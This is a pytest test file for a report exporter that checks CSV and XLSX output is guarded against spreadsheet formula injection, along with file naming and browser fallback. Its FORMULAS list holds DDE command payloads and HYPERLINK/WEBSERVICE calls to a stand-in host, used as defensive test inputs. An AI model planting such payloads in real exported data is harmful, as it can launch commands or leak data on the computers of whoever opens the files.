"""Exports: texts that no spreadsheet runs, numbers that stay numbers, figures and PDF."""

import csv
import io
import shutil
import subprocess

import nbformat
import openpyxl
import pandas as pd
import pytest
from made_notebooks import SVG, make_finding, make_notebook
from openpyxl import load_workbook

from ccqa_lib.errors import StudyFailedError
from ccqa_lib.findings import Findings
from ccqa_lib.report.export import chromium, export_run
from ccqa_lib.report.export.cells import guarded
from ccqa_lib.show import figure, table

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.test","x")',
    '=WEBSERVICE("http://evil.test")', "=IMPORTXML(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "|calc", "%0A=1+1", "\uff1d1+1", "\uff0b1+1", "\uff20SUM(1)", '"=1+1', "'=1+1", "=1+1;=2+2",
    "a\r\n=1+1", "\x00=1+1", "\u200b=1+1", "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.fixture
def folder(tmp_path):
    frame = pd.DataFrame({"=1+1": FORMULAS, "share": [i / 8 for i in range(len(FORMULAS))]})
    blocks = [
        table(frame, "=SUM(1) [a]:*?/\\ 處理", formats={"share": ".1%"}),
        table(frame, "=SUM(1) [a]:*?/\\ 處理"),
        figure(SVG, "Handle time: 處理 ../../x", "alt"),
    ]
    finding = make_finding(headline="=1+1", action="+cmd|x", owner="@A1", caveats=("-1+1",))
    run = tmp_path / "study" / "label" / "2026-06-28"
    run.mkdir(parents=True)
    nbformat.write(make_notebook(Findings((finding,)), blocks), run / "notebook.ipynb")
    (run / "report.html").write_text("<h1>Report</h1>", encoding="utf-8")
    return run


def test_workbook_cells_are_texts_and_numbers_and_never_formulas(folder):
    book = load_workbook(io.BytesIO(export_run(folder, ["xlsx"]).files["tables.xlsx"]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    texts = [cell for cell in cells if cell.data_type == "s"]
    assert len(texts) > len(FORMULAS) and all(cell.quotePrefix for cell in texts)
    assert book.sheetnames[0] == "Findings"
    assert len({name.lower() for name in book.sheetnames}) == len(book.sheetnames) == 3
    share = [row[1].value for row in list(book.worksheets[1].iter_rows())[1:]]
    assert share == [i / 8 for i in range(len(FORMULAS))]
    assert book.properties.creator == "CCQA Workbooks"


def test_csv_cells_begin_with_nothing_that_runs(folder):
    files = export_run(folder, ["csv"]).files
    assert len(files) == 3 and "findings.csv" in files
    for name, content in files.items():
        assert content.startswith(b"\xef\xbb\xbf") and "/" not in name and ".." not in name
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert len({len(row) for row in rows}) == 1
        for cell in (cell for row in rows for cell in row):
            assert not cell.strip().startswith(("=", "+", "@", "|", "%", "\uff1d", "\uff0b")), cell
            assert "\r" not in cell and "\n" not in cell


@pytest.mark.parametrize(
    ("given", "kept"),
    [("-3.5", "-3.5"), ("+12 %", "+12 %"), ("−3", "−3"), ("-1,234.5", "-1,234.5"), ("a=1", "a=1"),
     ("-3+4", "'-3+4"), ("-", "'-"), ("=1", "'=1")],
)  # fmt: skip
def test_signed_numbers_are_left_alone(given, kept):
    assert guarded(given) == kept


def test_findings_hold_size_interval_and_next_step_in_columns(folder):
    content = export_run(folder, ["csv"]).files["findings.csv"].decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(content))
    assert (row["estimate"], row["low"], row["high"]) == ("21.4", "17.9", "24.9")
    assert (row["unit"], row["verdict"], row["next step"]) == ("seconds", "act", "'+cmd|x")


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_office_program_finds_no_formula(folder, tmp_path, kind):
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    files = export_run(folder, [kind]).files
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    out = tmp_path / "read"
    command = [office, profile, "--headless", "--convert-to", "xlsx", "--outdir", str(out)]
    subprocess.run([*command, *(str(tmp_path / name) for name in files)], check=True, timeout=300)
    read = [load_workbook(path) for path in sorted(out.glob("*.xlsx"))]
    assert len(read) == len(files)
    cells = [cell for book in read for sheet in book for row in sheet.iter_rows() for cell in row]
    assert len(cells) > len(FORMULAS)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []


def test_figures_are_named_by_their_words_and_stay_in_the_folder(folder):
    files = export_run(folder, ["svg"]).files
    assert files == {"figure-01-handle-time-處理-x.svg": SVG.encode()}


def test_without_a_browser_the_rest_is_written_and_the_reason_is_told(folder, monkeypatch):
    monkeypatch.setenv("CCQA_CHROMIUM", "/nowhere/chromium")
    exported = export_run(folder)
    assert sorted({name.rsplit(".", 1)[1] for name in exported.files}) == ["csv", "svg", "xlsx"]
    assert [line.partition(":")[0] for line in exported.missing] == ["png", "pdf"]
    assert "install one, or name it in CCQA_CHROMIUM" in exported.missing[0]


@pytest.mark.browser
def test_pdf_and_png_are_drawn_by_the_browser(folder):
    if not chromium.find_chromium():
        pytest.skip("no Chromium is installed")
    files = export_run(folder, ["png", "pdf"]).files
    assert files["report.pdf"].startswith(b"%PDF-")
    assert files["figure-01-handle-time-處理-x.png"].startswith(b"\x89PNG")
    width = int.from_bytes(files["figure-01-handle-time-處理-x.png"][16:20], "big")
    assert width == 2400


def test_a_broken_browser_is_a_sentence(folder, monkeypatch):
    monkeypatch.setenv("CCQA_CHROMIUM", shutil.which("false") or "false")
    with pytest.raises(StudyFailedError, match="name another in CCQA_CHROMIUM"):
        export_run(folder, ["pdf"])


def test_a_folder_without_a_run_is_refused(tmp_path):
    with pytest.raises(StudyFailedError, match="holds no run that can be exported"):
        export_run(tmp_path)


def test_a_formula_would_be_seen(tmp_path):
    book = openpyxl.Workbook()
    book.active["A1"] = FORMULAS[0]
    book.save(tmp_path / "x.xlsx")
    assert load_workbook(tmp_path / "x.xlsx").active["A1"].data_type == "f"
